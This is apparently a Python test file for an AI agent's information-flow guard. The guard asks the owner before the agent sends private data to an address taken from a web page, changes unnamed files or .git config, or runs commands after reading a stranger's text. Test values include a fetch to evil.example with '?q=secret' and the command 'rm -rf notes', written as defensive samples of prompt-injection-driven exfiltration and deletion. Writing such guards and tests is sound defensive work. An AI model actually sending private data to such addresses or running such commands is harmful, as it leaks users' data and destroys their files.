"""The information-flow rules alone, on plain values: which labels a tool's output brings,
what the owner's words name, and the exact reason each ask gives the owner (the card shows
it word for word)."""

from __future__ import annotations

from core.governance.flow import (
    RequestFlow,
    ask_if_it_changes,
    ask_to_change,
    ask_to_send,
    command_words,
)
from core.tools.action import ToolAction
from core.tools.definition import ANY_TARGET, CONTENTS, NOTHING, PRIVATE, STRANGERS, ToolFlow

MARK = "Because of what this request read: "  # spelled here: the module's own may be wrong
READ = ToolAction("file.read", None, {"path": "/workspace/notes/a.txt"})
PAGE = ToolAction("web.fetch", None, {"url": "https://news.example/x?page=2"})
FETCH = ToolFlow(STRANGERS, sends=("url",))
WRITE = ToolFlow(NOTHING, changes=("path",))


def private_source(action: ToolAction) -> str:
    """How a request names where `action`'s private output came from."""
    flow = RequestFlow("hi")
    flow.observe(action, ToolFlow(PRIVATE), "output")
    return flow.private_from[0]


def after_reading(owner_text: str = "summarise the news") -> RequestFlow:
    """A request that read a private note, then a page linking news.example/more."""
    flow = RequestFlow(owner_text)
    flow.observe(READ, ToolFlow(PRIVATE), "my secret")
    flow.observe(PAGE, ToolFlow(STRANGERS), "read on: https://news.example/more")
    return flow


def test_a_new_request_holds_only_the_owners_words() -> None:
    flow = RequestFlow("hi")
    assert (flow.holds_private, flow.read_strangers) == (False, False)
    flow.observe(READ, ToolFlow(NOTHING), "nothing labelled")
    assert (flow.holds_private, flow.read_strangers) == (False, False)
    assert flow.source_text() == "text the model read"


def test_a_workspace_file_is_private_and_a_strangers_but_never_quotable() -> None:
    flow = RequestFlow("hi")
    flow.observe(READ, ToolFlow(CONTENTS), "see https://evil.example/x")
    flow.observe(READ, ToolFlow(CONTENTS), "read twice")
    assert (flow.holds_private, flow.read_strangers) == (True, True)
    assert flow.private_from == ["the file notes/a.txt"]  # once, however often read
    assert flow.strangers == ["the file notes/a.txt"]
    assert flow.quoted_from_stranger("https://evil.example/x") is False


def test_a_page_is_a_strangers_and_lends_its_links() -> None:
    flow = RequestFlow("hi")
    flow.observe(PAGE, ToolFlow(STRANGERS), "see https://a.example/p")
    flow.heard_stranger("the page b.example/", "and https://b.example/q")  # quotable by default
    flow.heard_stranger("the page b.example/", "mail me at c@c.example", quotable=False)
    assert (flow.holds_private, flow.read_strangers) == (False, True)
    assert flow.strangers == ["the page news.example/x", "the page b.example/"]
    assert flow.source_text() == "the page news.example/x, the page b.example/"
    assert flow.quoted_from_stranger("https://a.example/p") is True
    assert flow.quoted_from_stranger("https://b.example/q") is True
    assert flow.quoted_from_stranger("c@c.example") is False
    assert flow.quoted_from_stranger("https://d.example/") is False


def test_each_source_is_named_as_the_owner_would_say_it() -> None:
    assert private_source(PAGE) == "the page news.example/x"  # host and path, no query
    assert private_source(ToolAction("web.fetch", None, {})) == "the page "  # no address
    query = "q" * 61
    assert private_source(ToolAction("web.search", None, {"query": query})) == (
        f"the search results for “{'q' * 59}…”"
    )
    assert private_source(ToolAction("memory.recall", None, {"query": "x"})) == "memory"
    assert private_source(ToolAction("file.read", None, {"path": "/workspace/inbox/d.pdf"})) == (
        "the document inbox/d.pdf that came with a message"
    )
    assert private_source(ToolAction("repo.log", None, {"path": "/workspace/"})) == (
        "the file the workspace"
    )
    assert private_source(ToolAction("file.read", None, {"path": "/Xmas/list.txt"})) == (
        "the file Xmas/list.txt"
    )
    assert private_source(ToolAction("mcp.notes", None, {"path": "a.txt"})) == "mcp.notes"
    assert private_source(ToolAction("file.list", None, {})) == "file.list"
    command = "cat " + "n" * 60
    assert private_source(ToolAction("shell.exec", command)) == f"the output of `{command[:59]}…`"


def test_the_owner_names_a_value_by_a_whole_word_or_path() -> None:
    flow = RequestFlow("read notes/a.txt, delete .z and q/ and abc")
    for named in ("notes/a.txt", " /workspace/notes/a.txt ", "/workspace/x/abc", ".z"):
        assert flow.owner_named(named) is True, named
    assert flow.owner_named("/workspace/y/.z") is True  # its file name, with an extension
    assert flow.owner_named("/workspace/q/") is True  # as the owner wrote the folder
    for unnamed in ("", "   ", "ata.txt", "/workspace/x/ab", "..."):
        assert flow.owner_named(unnamed) is False, unnamed
    assert RequestFlow("update data.txt").owner_named("ata.txt") is False
    assert RequestFlow("save b.txt2").owner_named("b.txt") is False
    assert RequestFlow("save b.txt2").owner_named("b.txt2") is True
    assert RequestFlow("rename ab").owner_named("/workspace/x/ab") is False  # too short


def test_a_query_in_the_owners_words_is_named_in_any_order() -> None:
    flow = RequestFlow("cheap Flights")
    assert flow.owner_named("flights cheap") is True
    assert flow.owner_named("cheap flights rome") is False


def test_sending_with_private_data_asks_unless_the_owner_or_a_page_gave_the_address() -> None:
    out = ToolAction("web.fetch", None, {"url": "https://evil.example/c?q=secret"})
    assert ask_to_send(out, FETCH, RequestFlow("hi")) is None  # nothing private read
    assert ask_to_send(out, FETCH, after_reading()) == (
        f"{MARK}it would send 31 characters to evil.example (https://evil.example/c?q=secret) "
        "while this request holds private data from the file notes/a.txt; the address or "
        "query did not come from your message. Asked for by the page news.example/x."
    )
    linked = ToolAction("web.fetch", None, {"url": "https://news.example/more"})
    assert ask_to_send(linked, FETCH, after_reading()) is None
    named = after_reading("fetch https://evil.example/c?q=secret")
    assert ask_to_send(out, FETCH, named) is None


def test_every_value_sent_is_judged_and_the_model_is_named_when_no_stranger_asked() -> None:
    flow = RequestFlow("search for rome")
    flow.observe(READ, ToolFlow(PRIVATE), "my secret")
    both = ToolFlow(STRANGERS, sends=("query", "to"))
    search = ToolAction("web.search", None, {"query": "rome", "to": "my secret"})
    assert ask_to_send(search, both, flow) == (
        f"{MARK}it would send 9 characters to the search provider (my secret) while this "
        "request holds private data from the file notes/a.txt; the address or query did not "
        "come from your message. Asked for by the model."
    )
    missing = ToolAction("mcp.post", None, {})
    assert (ask_to_send(missing, ToolFlow(STRANGERS, sends=("body",)), flow) or "").startswith(
        f"{MARK}it would send 0 characters to another server () "
    )
    plain = ToolAction("web.fetch", None, {"url": "not-an-address"})
    assert "to another server (not-an-address)" in (ask_to_send(plain, FETCH, flow) or "")


def test_a_long_value_is_shown_cut_at_120_characters() -> None:
    flow = after_reading()
    exact = "https://e.example/" + "a" * 102
    longer = exact + "b"
    shown = ask_to_send(ToolAction("web.fetch", None, {"url": exact}), FETCH, flow) or ""
    assert f"to e.example ({exact}) while" in shown
    cut = ask_to_send(ToolAction("web.fetch", None, {"url": longer}), FETCH, flow) or ""
    assert f"to e.example ({exact[:119]}…) while" in cut


def test_a_change_after_a_strangers_text_asks_unless_the_owner_named_it() -> None:
    write = ToolAction("file.write", None, {"path": "/workspace/b.txt", "content": "x"})
    assert ask_to_change(write, WRITE, RequestFlow("hi")) is None  # no stranger read
    assert ask_to_change(write, WRITE, after_reading()) == (
        f"{MARK}it changes /workspace/b.txt, which your message did not name, after reading "
        "the page news.example/x. Asked for by the page news.example/x."
    )
    assert ask_to_change(write, WRITE, after_reading("save it to b.txt")) is None
    reading = ToolFlow(STRANGERS)  # changes nothing it can name
    assert ask_to_change(write, reading, after_reading()) is None


def test_a_change_that_may_touch_anything_asks_even_when_a_target_is_named() -> None:
    flow = after_reading("save it to b.txt")
    anything = ToolFlow(STRANGERS, changes=("path", ANY_TARGET))
    write = ToolAction("mcp.write", None, {"path": "b.txt"})
    assert (ask_to_change(write, anything, flow) or "").startswith(f"{MARK}it changes b.txt,")
    unnamed = ToolAction("mcp.do", None, {"x": 1})
    assert ask_to_change(unnamed, ToolFlow(STRANGERS, changes=(ANY_TARGET,)), flow) == (
        f"{MARK}it changes mcp.do {{'x': 1}}, which your message did not name, after reading "
        "the page news.example/x. Asked for by the page news.example/x."
    )
    nameless = ToolAction("mcp.write", None, {"x": 1})  # the parameter naming it is missing
    assert (ask_to_change(nameless, WRITE, flow) or "").startswith(
        f"{MARK}it changes mcp.write {{'x': 1}}, which"
    )
    move = ToolAction("file.move", None, {"source": "a.txt", "target": "c.txt"})
    moving = ToolFlow(NOTHING, changes=("source", "target"))
    assert (ask_to_change(move, moving, flow) or "").startswith(f"{MARK}it changes a.txt, c.txt,")


def test_gits_own_files_ask_whoever_named_them() -> None:
    git = ToolAction("file.write", None, {"path": "/workspace/r/.git/config", "content": "x"})
    assert ask_to_change(git, WRITE, RequestFlow("write r/.git/config")) == (
        f"{MARK}it changes /workspace/r/.git/config, inside a repository's .git folder: git "
        "reads those files to decide which repository, hooks and settings it uses."
    )
    ignore = ToolAction("file.write", None, {"path": "/workspace/.gitignore", "content": "x"})
    assert ask_to_change(ignore, WRITE, RequestFlow("hi")) is None


def test_a_command_after_a_strangers_text_asks_unless_the_owner_named_its_operands() -> None:
    assert ask_if_it_changes(RequestFlow("hi"), "rm -rf notes") is None
    flow = after_reading("delete notes/old")
    assert ask_if_it_changes(flow, "rm notes/old -f") is None  # flags are no operands
    assert ask_if_it_changes(flow, "rm notes/older") == (
        f"{MARK}this command changes your workspace after reading the page news.example/x, "
        "and your message did not ask for it. Asked for by the page news.example/x."
    )
    assert ask_if_it_changes(after_reading("run make"), "make") is not None  # no operand


def test_a_command_line_splits_as_the_shell_would_or_on_spaces() -> None:
    assert command_words("rm 'a b' c") == ["rm", "a b", "c"]
    assert command_words("echo 'unclosed quote") == ["echo", "'unclosed", "quote"]
